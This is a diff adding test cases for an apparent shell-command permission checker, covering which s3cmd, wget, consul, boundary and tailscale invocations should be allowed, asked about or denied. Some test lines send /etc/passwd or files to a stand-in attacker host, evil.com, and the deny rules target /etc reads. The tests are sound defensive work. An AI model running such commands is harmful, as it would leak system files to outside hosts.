@@ -42,3 +42,36 @@ describe('IPv6 spellings of an IPv4 host: deny and ask rules on the IPv4 address
     expectDecision(DENY_METADATA, 'shell', line, expected, REPO_LINUX);
   });
 });
+
+const DENY_EVIL = { deny: ['Domain(evil.com)', 'Read(//etc/**)'], allow: ['Shell(*)', 'Domain(*)'] };
+
+describe('hosts named outside the line: unknown hosts, asked where Domain deny/ask rules exist', () => {
+  it.each<[string, DecisionKind]>([
+    // (s3cmd's configuration file names its server, host_base.)
+    ['s3cmd -c /tmp/x.cfg ls s3://b', 'ask'],
+    ['s3cmd --config=/tmp/x.cfg ls s3://b', 'ask'],
+    ['s3cmd ls s3://b', 'allow'],
+    // (wget -H follows links to any host the fetched pages name.)
+    ['wget -r -H https://example.com/', 'ask'],
+    ['wget -rH https://example.com/', 'ask'],
+    ['wget --span-hosts -p https://example.com/', 'ask'],
+    ['wget -r https://example.com/', 'allow'],
+    // (consul agent joins the servers of -join/-retry-join; its configuration may name more.)
+    ['consul agent -retry-join evil.com', 'deny'],
+    ['consul agent -join=evil.com', 'deny'],
+    ['consul agent -retry-join-wan evil.com:8302', 'deny'],
+    ["consul agent -retry-join 'provider=aws tag_key=x'", 'ask'],
+    ['consul agent -config-dir=/w/repo/consul.d', 'ask'],
+    ['consul agent -dev', 'allow'],
+    // (boundary's controller.)
+    ['boundary connect -addr evil.com:9200 -target-id x', 'deny'],
+    ['boundary connect -addr=$X -target-id x', 'ask'],
+    ['boundary connect -target-id x', 'allow'],
+    // (tailscale file cp reads the files it sends.)
+    ['tailscale file cp /etc/passwd host:', 'deny'],
+    ['tailscale file cp a.txt evil.com:', 'deny'],
+    ['tailscale file cp a.txt host:', 'allow'],
+  ])('%s -> %s', (line, expected) => {
+    expectDecision(DENY_EVIL, 'shell', line, expected, REPO_LINUX);
+  });
+});
